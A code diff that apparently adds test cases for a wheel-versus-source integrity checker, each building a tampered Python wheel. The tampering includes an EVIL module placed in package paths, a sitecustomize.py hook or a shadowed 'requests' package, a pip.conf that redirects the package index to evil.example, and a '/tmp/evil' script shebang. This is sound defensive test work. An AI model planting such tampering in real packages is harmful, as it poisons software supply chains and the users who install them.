@@ -234,6 +234,116 @@ def p2_module(cache):
     change_built(cache, {"beta/more/__init__.py": EVIL}, True)
 
 
+def p2_tag(cache):
+    """Says that it is for one platform."""
+    with zipfile.ZipFile(cache.built()) as archive:
+        text = archive.read(info("WHEEL"))
+    changes = {"beta/__init__.py": EVIL, info("WHEEL"): text.replace(b"py3-none-any", PLATFORM)}
+    change_built(cache, changes, True)
+
+
+def p2_tagged(cache):
+    """The same, and the file's name says so, too."""
+    p2_tag(cache)
+    name_for_platform(cache)
+
+
+def p2_data(cache):
+    change_built(cache, {"beta-0.3.data/data/pip.conf": b"[global]\nindex-url = https://evil.example/\n"}, True)
+
+
+def p2_header(cache):
+    change_built(cache, {"beta-0.3.data/headers/beta.h": b"#define X\n"}, True)
+
+
+def p2_dot(cache):
+    change_built(cache, {"./beta/__init__.py": EVIL}, True)
+
+
+def p2_slashes(cache):
+    change_built(cache, {"beta//more.py": EVIL}, True)
+
+
+PLATFORM = b"cp311-cp311-linux_x86_64"
+
+
+def name_for_platform(cache):
+    path = cache.built()
+    os.rename(path, path.replace("py3-none-any", PLATFORM.decode()))
+
+
+def add_to_source(cache, files):
+    """What the wheel was built from, with more files; it is not what the page says any more."""
+    path = cache.path(cache.file("beta", "0.3")["url"])
+    with open(path + ".body", "rb") as file:
+        members = tarfile.open(fileobj=io.BytesIO(file.read()))
+        content = {item.name: members.extractfile(item).read() for item in members if item.isfile()}
+    top = next(iter(content)).split("/")[0]
+    content.update({f"{top}/{name}": text for name, text in files.items()})
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w:gz") as archive:
+        for name, text in content.items():
+            item = tarfile.TarInfo(name)
+            item.size = len(text)
+            archive.addfile(item, io.BytesIO(text))
+    cache.write(path + ".body", out.getvalue())
+    cache.headers(path, {"Content-Length": str(len(out.getvalue()))})
+
+
+def built_script(cache, body=b"import sys\r\nprint(1)\r\n", line=b"#!python -E\n"):
+    """No poison but for the source archive: an honest build."""
+    add_to_source(cache, {"bin/beta-tool": b"#!/usr/bin/env python3 -E\r\n" + body})
+    change_built(cache, {"beta-0.3.data/scripts/beta-tool": line + body.replace(b"\r", b"")}, True)
+
+
+def built_script_changed(cache):
+    built_script(cache)
+    change_built(cache, {"beta-0.3.data/scripts/beta-tool": b"#!python -E\nimport os\n"}, True)
+
+
+def built_script_line(cache):
+    built_script(cache, line=b"#!/tmp/evil\n")
+
+
+def built_data(cache):
+    add_to_source(cache, {"beta/table.txt": b"1\n", "etc/beta.conf": b"x\n"})
+    change_built(cache, {"beta/table.txt": b"1\n", "beta-0.3.data/data/etc/beta.conf": b"x\n"}, True)
+
+
+def built_data_changed(cache):
+    built_data(cache)
+    change_built(cache, {"beta/table.txt": b"2\n"}, True)
+
+
+def compiled(cache, changes={}):
+    """An honest build for one platform."""
+    add_to_source(cache, {"beta/fast.c": b"int x;\n", "beta/table.txt": b"1\n"})
+    with zipfile.ZipFile(cache.built()) as archive:
+        text = archive.read(info("WHEEL"))
+    elf = b"\x7fELF\x02\x01\x01"
+    change_built(cache, {
+        info("WHEEL"): text.replace(b"py3-none-any", PLATFORM), "beta/fast.cpython-311-x86_64-linux-gnu.so": elf,
+        "beta/config.py": b"built = 1\n", "beta-0.3.data/scripts/beta-fast": elf, "beta/table.txt": b"1\n",
+        "beta-0.3.data/data/lib/libbeta.so": elf, **changes}, True)
+    name_for_platform(cache)
+
+
+def compiled_changed(cache):
+    compiled(cache, {"beta/__init__.py": EVIL})
+
+
+def compiled_data(cache):
+    compiled(cache, {"beta/table.txt": b"2\n"})
+
+
+def compiled_conf(cache):
+    compiled(cache, {"beta-0.3.data/data/pyvenv.cfg": b"\x7fELF\nhome = /tmp\n"})
+
+
+def compiled_module(cache):
+    compiled(cache, {"requests/__init__.py": EVIL})
+
+
 def p2_hook(cache):
     change_built(cache, {"sitecustomize.py": EVIL}, True)
 
